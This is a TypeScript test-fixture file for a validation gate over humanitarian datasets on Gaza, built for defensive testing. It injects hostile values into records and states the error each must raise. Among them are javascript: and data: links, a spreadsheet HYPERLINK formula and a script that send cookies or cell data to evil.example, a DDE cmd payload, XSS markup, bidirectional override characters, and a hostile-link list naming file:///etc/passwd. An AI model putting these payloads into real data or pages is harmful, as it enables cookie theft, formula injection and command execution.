/**
 * Hostile curated records: each case damages one record of a copy of the real data the way a careless
 * paste, a broken export or an attacker would, and states what the gate must answer (file, record,
 * field and message). The inert cases are markup that may pass the gate and must arrive as plain text.
 */
import type { Polygon, Position } from 'geojson';
import type { Situation } from '../../src/lib/data/situation';
import { findLine, readReal, replaceOnce, withCell, withFeature, withLine } from './fixtures';

const SOURCES = 'data/sources/sources.csv';
const STRIKES = 'data/strikes/strikes.csv';
const REPORTS = 'data/strikes/reports.csv';
const FIGURES = 'data/shelter-population/figures.csv';
const AREAS = 'data/shelter-population/shelter-population.geojson';
const CROSSINGS = 'data/aid-corridors/crossings.csv';
const VOLUMES = 'data/aid-corridors/aid-volume.csv';
const TRUCKS = 'data/aid-corridors/trucks-daily.csv';
const ROUTES = 'data/aid-corridors/routes.geojson';
const ORDERS = 'data/evacuation-orders/evacuation-orders.geojson';
const PLACES = 'data/places/places.csv';
const HOSPITALS = 'data/places/hospital-status.csv';

/** The first record of a real table, by its first cell. */
const firstRecord = (file: string) => readReal(file).split('\n')[1]!.split(',')[0]!;

const SOURCE = readReal(SOURCES).split('\n')[2]!.split(',')[0]!;
const STRIKE = firstRecord(STRIKES);
const REPORTED = firstRecord(REPORTS);
const FIGURE = firstRecord(FIGURES);
const CROSSING = firstRecord(CROSSINGS);
const VOLUME = 'volume-0001';
const TRUCK_DAY = firstRecord(TRUCKS);
const TRUCK_CROSSING = readReal(TRUCKS).split('\n')[1]!.split(',')[1]!;
const PLACE = firstRecord(PLACES);
const HOSPITAL = firstRecord(HOSPITALS);
const ORDER = 'evac-0511';
const AREA = 'area-rafah-governorate';
const ROUTE = 'route-al-rashid';

/** `record (line n)`, as the gate names a record whose line is broken. */
const onLine = (file: string, record: string) =>
	`${record} (line ${findLine(readReal(file), record).index + 1})`;

/** A ring in Rafah, valid unless the case breaks it. */
const ring = (...corners: [number, number][]): Position[] => corners;
const rafahPolygon = (coordinates: Position[]) => (f: { geometry: unknown }) => {
	f.geometry = { type: 'Polygon', coordinates: [coordinates] } satisfies Polygon;
};

export interface RejectedCase {
	name: string;
	/** The file damaged, and the one the gate must name. */
	file: string;
	edit: (text: string) => string;
	record: string;
	field: string;
	message: string | RegExp;
}

const LONG = 'x'.repeat(100_000);

export const REJECTED: readonly RejectedCase[] = [
	// Links
	{
		name: 'a javascript: link',
		file: SOURCES,
		edit: withCell(SOURCE, 'url', 'javascript:alert(document.cookie)'),
		record: SOURCE,
		field: 'url',
		message: 'must be an https:// URL'
	},
	{
		name: 'a data: link',
		file: SOURCES,
		edit: withCell(SOURCE, 'url', 'data:text/html,<script>alert(1)</script>'),
		record: SOURCE,
		field: 'url',
		message: 'must be an https:// URL'
	},
	{
		name: 'a javascript: link in a GeoJSON property',
		file: ORDERS,
		edit: withFeature(ORDER, (f) => {
			f.properties!.source_post_url = 'javascript:alert(1)';
		}),
		record: ORDER,
		field: 'source_post_url',
		message: 'must be an https:// URL'
	},
	// Characters
	{
		name: 'a right-to-left override in a publisher',
		file: SOURCES,
		edit: withCell(SOURCE, 'publisher', 'Anadolu\u202E (via A News)'),
		record: SOURCE,
		field: 'publisher',
		message: /^contains U\+202E \(a bidirectional control character/
	},
	{
		name: 'a right-to-left isolate in a summary',
		file: STRIKES,
		edit: withCell(STRIKE, 'summary', 'House hit.\u2067 ,killed 500'),
		record: STRIKE,
		field: 'summary',
		message: /^contains U\+2067 \(a bidirectional control character/
	},
	{
		name: 'a control character in a note',
		file: REPORTS,
		edit: withCell(REPORTED, 'note', 'injured\u0007 several'),
		record: REPORTED,
		field: 'note',
		message: 'contains U+0007 (a control character) at character 8'
	},
	{
		name: 'a line break inside a quoted cell',
		file: PLACES,
		edit: withCell(PLACE, 'note', 'first line\nsecond line'),
		record: onLine(PLACES, PLACE),
		field: 'note',
		message: /runs on past the end of its line/
	},
	// Lengths
	{
		name: 'a 100,000-character summary',
		file: STRIKES,
		edit: withCell(STRIKE, 'summary', LONG),
		record: STRIKE,
		field: 'summary',
		message: 'is 100000 characters long; at most 2000'
	},
	{
		name: 'a 100,000-character name in a GeoJSON property',
		file: AREAS,
		edit: withFeature(AREA, (f) => {
			f.properties!.name_en = LONG;
		}),
		record: AREA,
		field: 'name_en',
		message: 'is 100000 characters long; at most 200'
	},
	// Formulas
	{
		name: 'a HYPERLINK formula in a note',
		file: REPORTS,
		edit: withCell(REPORTED, 'note', '=HYPERLINK("https://evil.example/?d="&A1,"source")'),
		record: REPORTED,
		field: 'note',
		message: 'starts with "=", which a spreadsheet would run as a formula'
	},
	{
		name: 'a DDE formula behind a sign in a claim',
		file: REPORTS,
		edit: withCell(REPORTED, 'claim', "-2+3+cmd|' /C calc'!A0"),
		record: REPORTED,
		field: 'claim',
		message: 'starts with "-", which a spreadsheet would run as a formula'
	},
	// Numbers
	{
		name: 'a 20-digit toll',
		file: REPORTS,
		edit: withCell(REPORTED, 'killed', '12345678901234567890'),
		record: REPORTED,
		field: 'killed',
		message: 'must be a whole number from 0 to 5000, or empty'
	},
	{
		name: 'a negative toll',
		file: REPORTS,
		edit: withCell(REPORTED, 'injured', '-3'),
		record: REPORTED,
		field: 'injured',
		message: 'must be a whole number from 0 to 5000, or empty'
	},
	{
		name: 'a toll written with an exponent',
		file: REPORTS,
		edit: withCell(REPORTED, 'killed', '1e3'),
		record: REPORTED,
		field: 'killed',
		message: 'must be a whole number from 0 to 5000, or empty'
	},
	{
		name: 'an absurd toll',
		file: REPORTS,
		edit: withCell(REPORTED, 'killed', '50000'),
		record: REPORTED,
		field: 'killed',
		message: 'must be a whole number from 0 to 5000, or empty'
	},
	{
		name: 'more people than the Strip holds',
		file: FIGURES,
		edit: withCell(FIGURE, 'value', '14000000'),
		record: FIGURE,
		field: 'value',
		message: 'must be a whole number from 0 to 2500000, or empty'
	},
	{
		name: 'a negative truck count',
		file: TRUCKS,
		edit: withLine(TRUCK_DAY, (l) => l.replace(/,\d+$/, ',-1')),
		record: TRUCK_DAY,
		field: 'truck_lines',
		message: 'must be a whole number from 0 to 2000'
	},
	{
		name: 'a negative truck average',
		file: VOLUMES,
		edit: withCell(VOLUME, 'value', '-5'),
		record: VOLUME,
		field: 'value',
		message: 'must not be negative for trucks_per_day_avg'
	},
	{
		name: 'an infinite number in a GeoJSON property',
		file: ORDERS,
		edit: (t) => replaceOnce(t, '"blocks":9,', '"blocks":1e999,'),
		record: ORDER,
		field: 'blocks',
		message: 'must be a whole number from 1 to 1000'
	},
	// Coordinates
	{
		name: 'a NaN longitude',
		file: STRIKES,
		edit: withCell(STRIKE, 'lon', 'NaN'),
		record: STRIKE,
		field: 'lon',
		message: 'must be a decimal number'
	},
	{
		name: 'a latitude outside the area',
		file: STRIKES,
		edit: withCell(STRIKE, 'lat', '31.900000'),
		record: STRIKE,
		field: 'lat',
		message: 'must be ≤ 31.45'
	},
	{
		name: 'a crossing placed outside the Strip',
		file: CROSSINGS,
		edit: withCell(CROSSING, 'lon', '35.000000'),
		record: CROSSING,
		field: 'lon',
		message: 'must lie between 34.15 and 34.6'
	},
	{
		name: 'a null coordinate in a polygon',
		file: ORDERS,
		edit: withFeature(ORDER, (f) => {
			(f.geometry as Polygon).coordinates[0]![1] = [null, 31.27] as unknown as Position;
		}),
		record: ORDER,
		field: 'geometry',
		message: 'position 2 of ring 1 is not a [lon, lat] pair of numbers'
	},
	{
		name: 'a polygon outside the area',
		file: ORDERS,
		edit: withFeature(
			ORDER,
			rafahPolygon(ring([34.25, 31.28], [36.1, 31.28], [34.26, 31.29], [34.25, 31.28]))
		),
		record: ORDER,
		field: 'geometry',
		message: "coordinate [36.1, 31.28] lies outside the project's area"
	},
	// Dates
	{
		name: 'a strike on 30 February',
		file: STRIKES,
		edit: withCell(STRIKE, 'date', '2024-02-30'),
		record: STRIKE,
		field: 'date',
		message: 'must be a calendar date YYYY-MM-DD'
	},
	{
		name: 'an order issued on 32 May',
		file: ORDERS,
		edit: withFeature(ORDER, (f) => {
			f.properties!.issued = '2024-05-32';
		}),
		record: ORDER,
		field: 'issued',
		message: 'must be a calendar date YYYY-MM-DD'
	},
	{
		name: 'an order issued at 25:61',
		file: ORDERS,
		edit: withFeature(ORDER, (f) => {
			f.properties!.issued_time_utc = '25:61';
		}),
		record: ORDER,
		field: 'issued_time_utc',
		message: 'must be a time HH:MM'
	},
	{
		name: 'a status from the thirteenth month',
		file: HOSPITALS,
		edit: withCell(HOSPITAL, 'valid_from', '2024-13-01'),
		record: HOSPITAL,
		field: 'valid_from',
		message: 'must be a calendar date YYYY-MM-DD or empty'
	},
	// Identity and references
	{
		name: 'a duplicated strike id',
		file: STRIKES,
		edit: (t) => `${t.trimEnd()}\n${findLine(t, STRIKE).line}\n`,
		record: STRIKE,
		field: 'id',
		message: 'is not unique'
	},
	{
		name: 'a duplicated feature id',
		file: ORDERS,
		edit: withFeature(ORDER, (f, fc) => {
			fc.features.push(structuredClone(f));
		}),
		record: ORDER,
		field: 'id',
		message: 'is not unique'
	},
	{
		name: 'a report citing a source that is not listed',
		file: REPORTS,
		edit: withCell(REPORTED, 'source_id', 'no-such-source'),
		record: `${REPORTED}/no-such-source`,
		field: 'source_id',
		message: 'refers to unknown id "no-such-source"'
	},
	{
		name: 'a hospital status for a place the gazetteer lacks',
		file: HOSPITALS,
		edit: withCell(HOSPITAL, 'place_id', 'place-atlantis'),
		record: HOSPITAL,
		field: 'place_id',
		message: 'refers to unknown id "place-atlantis"'
	},
	{
		name: 'a figure for an area that is not drawn',
		file: FIGURES,
		edit: withCell(FIGURE, 'area_id', 'area-atlantis'),
		record: FIGURE,
		field: 'area_id',
		message: 'refers to unknown id "area-atlantis"'
	},
	// CSV structure
	{
		name: 'a quote left open, which would swallow the rows after it',
		file: HOSPITALS,
		edit: withLine(HOSPITAL, (l) => l.replace(/,([^,]*)$/, ',"$1')),
		record: onLine(HOSPITALS, HOSPITAL),
		field: 'note',
		message: 'a quoted cell runs on past the end of its line: is a closing quote missing?'
	},
	{
		name: 'text after a closing quote',
		file: STRIKES,
		edit: withLine(STRIKE, (l) => l.replace(/,"([^"]*)"$/, ',"$1" and more')),
		record: onLine(STRIKES, STRIKE),
		field: 'summary',
		message: 'has text after the closing quote of a quoted cell'
	},
	{
		name: 'a quote inside an unquoted cell',
		file: TRUCKS,
		edit: withLine(TRUCK_DAY, (l) => l.replace(TRUCK_CROSSING, `${TRUCK_CROSSING}"`)),
		record: onLine(TRUCKS, TRUCK_DAY),
		field: 'crossing_id',
		message: 'has a quote inside an unquoted cell: quote the cell and double the quote'
	},
	{
		name: 'an unquoted comma in the last column',
		file: PLACES,
		edit: withLine(PLACE, (l) => `${l.replace(/,"[^"]*"$/, ',')}cut here, and the rest`),
		record: onLine(PLACES, PLACE),
		field: 'note',
		message:
			'has 12 cells for 11 columns: the text after "note" has no column (is a comma in an unquoted cell?)'
	},
	{
		name: 'a row with cells missing',
		file: FIGURES,
		edit: withLine(FIGURE, (l) => l.split(',').slice(0, 4).join(',')),
		record: onLine(FIGURES, FIGURE),
		field: 'value',
		message: 'has 4 cells for 10 columns: "value" and any after it are missing'
	},
	// Geometry
	{
		name: 'a bow-tie polygon',
		file: ORDERS,
		edit: withFeature(
			ORDER,
			rafahPolygon(
				ring([34.25, 31.28], [34.26, 31.29], [34.26, 31.28], [34.25, 31.29], [34.25, 31.28])
			)
		),
		record: ORDER,
		field: 'geometry',
		message: 'crosses itself at [34.255, 31.285]'
	},
	{
		name: 'an unclosed polygon',
		file: ORDERS,
		edit: withFeature(
			ORDER,
			rafahPolygon(ring([34.25, 31.28], [34.26, 31.28], [34.26, 31.29], [34.25, 31.29]))
		),
		record: ORDER,
		field: 'geometry',
		message: 'ring 1 is not closed: its last position must repeat its first'
	},
	{
		name: 'a two-point polygon',
		file: AREAS,
		edit: withFeature(AREA, rafahPolygon(ring([34.25, 31.28], [34.26, 31.29]))),
		record: AREA,
		field: 'geometry',
		message: 'ring 1 has 2 positions; a ring needs at least 4 (a closed triangle)'
	},
	{
		name: 'a polygon with no area',
		file: ORDERS,
		edit: withFeature(
			ORDER,
			rafahPolygon(ring([34.25, 31.28], [34.26, 31.28], [34.27, 31.28], [34.25, 31.28]))
		),
		record: ORDER,
		field: 'geometry',
		message: 'ring 1 encloses no area'
	},
	{
		name: 'a one-point route',
		file: ROUTES,
		edit: withFeature(ROUTE, (f) => {
			f.geometry = { type: 'LineString', coordinates: [[34.25, 31.28]] };
		}),
		record: ROUTE,
		field: 'geometry',
		message: 'the line has 1 position; a line needs at least 2'
	},
	{
		name: 'a known crossing that is no longer there',
		file: AREAS,
		edit: withFeature(
			'area-gaza-strip',
			rafahPolygon(ring([34.2, 31.2], [34.5, 31.2], [34.5, 31.6], [34.2, 31.6], [34.2, 31.2]))
		),
		record: 'area-gaza-strip',
		field: 'geometry',
		message:
			"no longer crosses itself at [34.42824, 31.52504]: remove it from the file's known crossings"
	}
];

export interface InertCase {
	name: string;
	file: string;
	edit: (text: string) => string;
	/** Where the text arrives, and what it must be there: exactly what the file held. */
	read: (s: Situation) => string | undefined;
	text: string;
}

const SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
const IMAGE = '<img src=x onerror="alert(1)">';
const LINK = '<a href="javascript:alert(1)">read more</a>';

export const INERT: readonly InertCase[] = [
	{
		name: 'a script in a summary',
		file: STRIKES,
		edit: withCell(STRIKE, 'summary', `House hit. ${SCRIPT}`),
		read: (s) => s.strikes.find((r) => r.id === STRIKE)?.summary,
		text: `House hit. ${SCRIPT}`
	},
	{
		name: 'an image with a handler in a title',
		file: SOURCES,
		edit: withCell(SOURCE, 'title', `Flash Update ${IMAGE}`),
		read: (s) => s.sources.find((r) => r.id === SOURCE)?.title,
		text: `Flash Update ${IMAGE}`
	},
	{
		name: 'a javascript: anchor in a note',
		file: REPORTS,
		edit: withCell(REPORTED, 'note', LINK),
		read: (s) => s.strikeReports.find((r) => r.strike_id === REPORTED)?.note,
		text: LINK
	},
	{
		name: 'markup in a GeoJSON name',
		file: AREAS,
		edit: withFeature(AREA, (f) => {
			f.properties!.name_en = `Rafah ${SCRIPT}`;
		}),
		read: (s) => s.areas.features.find((f) => f.properties.id === AREA)?.properties.name_en,
		text: `Rafah ${SCRIPT}`
	}
];

/** Links that may sit in data and must never become a followed link. */
export const HOSTILE_LINKS = [
	'javascript:alert(1)',
	'JaVaScRiPt:alert(1)',
	' javascript:alert(1)',
	'java\tscript:alert(1)',
	'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
	'vbscript:msgbox(1)',
	'file:///etc/passwd',
	'//evil.example/x'
] as const;
